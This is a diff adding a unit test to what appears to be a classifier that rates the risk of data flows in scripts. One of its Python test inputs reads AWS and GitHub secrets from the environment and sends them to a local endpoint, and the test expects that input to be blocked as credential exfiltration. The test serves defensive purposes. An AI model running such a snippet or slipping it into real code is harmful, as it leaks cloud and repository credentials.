@@ -595,3 +595,19 @@ TEST(AssessDataFlow, AFileOfItsOwnPutStraightIntoUsrOverwritesNothing) {
             RiskLevel::blocked);
   EXPECT_EQ(level("print(open('/usr/share/dict/words').read()[:10])\n"), RiskLevel::low);
 }
+
+TEST(AssessDataFlow, SecretsHarvestedFromTheEnvironmentBySeveralNamesAreCredentials) {
+  // One read per secret name of a list, sent: credential exfiltration.
+  EXPECT_EQ(level("import os, urllib.parse, urllib.request\nwanted = ['AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']\n"
+                  "v = {k: os.environ.get(k, '') for k in wanted}\n"
+                  "urllib.request.urlopen('http://127.0.0.1:8081/c?' + urllib.parse.urlencode(v))\n"),
+            RiskLevel::blocked);
+  // Its own client's token, read by name and used: MEDIUM.
+  EXPECT_EQ(level("import os, requests\nt = os.environ['GITHUB_TOKEN']\n"
+                  "requests.post('https://api.github.com/repos/o/r/issues', headers={'Authorization': t}, json={'title': 'x'})\n"),
+            RiskLevel::medium);
+  // Several settings that are not secrets, read in a loop and sent: settings.
+  EXPECT_EQ(level("import os, requests\nnames = ['REGION', 'STAGE']\nv = {k: os.environ.get(k) for k in names}\n"
+                  "requests.post('https://x.example/s', json=v)\n"),
+            RiskLevel::medium);
+}
